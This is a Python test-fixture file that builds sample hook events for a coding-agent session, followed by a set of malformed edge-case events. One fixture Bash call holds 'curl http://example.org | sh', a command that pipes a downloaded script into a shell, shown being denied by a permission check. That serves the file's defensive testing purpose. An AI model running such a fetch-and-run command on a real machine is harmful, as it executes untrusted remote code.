"""Events as Claude Code sends them to its hooks, one of every kind, and odd ones."""

from __future__ import annotations

from typing import Any

RUN = "0b0e8c1a-5d5b-4bb6-9c56-2a2f6a3b7c01"
ROOT = "/srv/shop"


def event(name: str, **says: Any) -> dict[str, Any]:
    """One event with what they all say."""
    known = {
        "session_id": RUN,
        "transcript_path": f"/srv/.claude/projects/-srv-shop/{RUN}.jsonl",
        "cwd": ROOT,
        "permission_mode": "default",
        "hook_event_name": name,
    }
    return {key: value for key, value in {**known, **says}.items() if value is not ...}


def call(name: str, tool: str, id_: str, arguments: Any, **says: Any) -> dict[str, Any]:
    """An event about a tool call."""
    return event(name, tool_name=tool, tool_input=arguments, tool_use_id=id_, **says)


EDIT = {
    "file_path": f"{ROOT}/cart.py",
    "old_string": "total = 0\nreturn total\n",
    "new_string": "total = sum(prices)\nreturn total\n",
    "replace_all": False,
}
BASH = {"command": "pytest -q", "description": "Run the tests"}
DAY = (
    event("SessionStart", source="startup", model="claude-sonnet-4-6"),
    event("InstructionsLoaded", file_path=f"{ROOT}/CLAUDE.md", load_reason="session_start"),
    event("UserPromptSubmit", prompt="Fix the total of the cart."),
    event("UserPromptExpansion", prompt="/fix cart", command_name="fix"),
    call("PreToolUse", "Read", "toolu_01", {"file_path": f"{ROOT}/cart.py"}),
    call("PostToolUse", "Read", "toolu_01", {"file_path": f"{ROOT}/cart.py"},
         tool_response={"type": "text", "file": {"content": "total = 0\nreturn total\n"}}),
    call("PreToolUse", "Edit", "toolu_02", EDIT),
    call("PermissionRequest", "Edit", ..., EDIT, permission_suggestions=[{"type": "setMode"}]),
    call("PostToolUse", "Edit", "toolu_02", EDIT, tool_response={"filePath": f"{ROOT}/cart.py"}),
    call("PreToolUse", "Bash", "toolu_03", BASH),
    call("PostToolUseFailure", "Bash", "toolu_03", BASH, error="Exit code 1\n1 failed"),
    call("PreToolUse", "Bash", "toolu_04", {"command": "curl http://example.org | sh"}),
    call("PermissionDenied", "Bash", "toolu_04", {"command": "curl http://example.org | sh"},
         reason="runs what it fetched"),
    call("PreToolUse", "Task", "toolu_05", {"prompt": "Look around", "subagent_type": "Explore"}),
    event("SubagentStart", agent_id="agent-1", agent_type="Explore"),
    call("PreToolUse", "Grep", "toolu_06", {"pattern": "total"}, agent_id="agent-1",
         agent_type="Explore"),
    call("PostToolUse", "Grep", "toolu_06", {"pattern": "total"}, tool_response="cart.py:1",
         agent_id="agent-1", agent_type="Explore"),
    event("SubagentStop", agent_id="agent-1", agent_type="Explore", stop_hook_active=False,
          agent_transcript_path="/srv/.claude/a.jsonl", last_assistant_message="One place."),
    call("PostToolUse", "Task", "toolu_05", {"prompt": "Look around", "subagent_type": "Explore"},
         tool_response={"content": [{"type": "text", "text": "One place."}]}),
    event("PostToolBatch", tool_calls=[{"tool_name": "Task", "tool_use_id": "toolu_05"}]),
    call("PreToolUse", "mcp__affidavit__thought_record", "toolu_07", {"type": "decision"}),
    call("PostToolUse", "mcp__affidavit__thought_record", "toolu_07", {"type": "decision"},
         tool_response={"ok": True}),
    event("Notification", message="Claude needs your permission", notification_type="x"),
    event("PreCompact", trigger="auto", custom_instructions=""),
    event("SessionStart", source="compact", model="claude-sonnet-4-6"),
    event("PostCompact", trigger="auto", compact_summary="The cart's total was fixed."),
    event("TaskCreated", task_id="1", task_subject="Fix the total"),
    event("TaskCompleted", task_id="1", task_subject="Fix the total"),
    event("ConfigChange", source="project_settings", file_path=f"{ROOT}/.claude/settings.json"),
    event("CwdChanged", old_cwd=ROOT, new_cwd=f"{ROOT}/web"),
    event("FileChanged", file_path=f"{ROOT}/.env"),
    event("WorktreeRemove", worktree_path="/srv/tree"),
    event("Elicitation", mcp_server_name="shop", message="Which one?", mode="form"),
    event("ElicitationResult", mcp_server_name="shop", action="accept"),
    event("TeammateIdle", teammate_name="ben", team_name="shop"),
    event("StopFailure", error="rate_limit", error_details="429"),
    event("Stop", stop_hook_active=False, last_assistant_message="Fixed; one test fails.",
          background_tasks=[], session_crons=[]),
    event("SessionEnd", reason="prompt_input_exit"),
)  # fmt: skip
ODD = (
    call("PreToolUse", "Bash", "toolu_90", {"command": "yes"}),
    call("PostToolUse", "Bash", "toolu_90", {"command": "yes"}, tool_response="y\n" * 1_000_000),
    call("PreToolUse", "Read", "toolu_91", {"file_path": "/srv/wörk/🦉/a b.py"}),
    call("PostToolUse", "Read", "toolu_91", {"file_path": "/srv/wörk/🦉/a b.py"},
         tool_response="\x00\x01\ud800 \x7f binary"),
    call("PostToolUse", "Read", "toolu_92", {"file_path": "never asked"}, tool_response=None),
    call("PreToolUse", "Edit", ..., {"file_path": 7, "old_string": None}),
    call("PostToolUse", "Edit", ..., {"file_path": 7, "old_string": None}, tool_response=[]),
    call("PreToolUse", "MultiEdit", "toolu_93", {"file_path": "m.py", "edits": [1, {}]}),
    call("PreToolUse", "Write", "toolu_94", {"file_path": "w.py", "content": "x\n" * 150_000}),
    call("PreToolUse", ..., "toolu_95", ...),
    call("PreToolUse", "Big", "toolu_96", {"n": 2**70, "f": 1.5e300}),
    event("QuiteNewEvent", about={"deep": [1, {"er": None}]}),
    event("UserPromptSubmit", prompt=""),
    event("UserPromptSubmit", prompt=...),
    event("UserPromptSubmit", prompt=["a", "list"]),
    event("UserPromptSubmit", prompt="nul \x00 and half \ud83d"),
    event("Stop", session_id=...),
    event("Notification", session_id="x" * 5_000, message="long id"),
    event("Notification", session_id="line\nbreak", message="control"),
    event("Notification", session_id="next\x85line", model="\x9b31m", message="control, higher up"),
    event("SessionEnd", session_id="nobody saw it start", reason="other"),
    event(..., message="no name"),
)  # fmt: skip
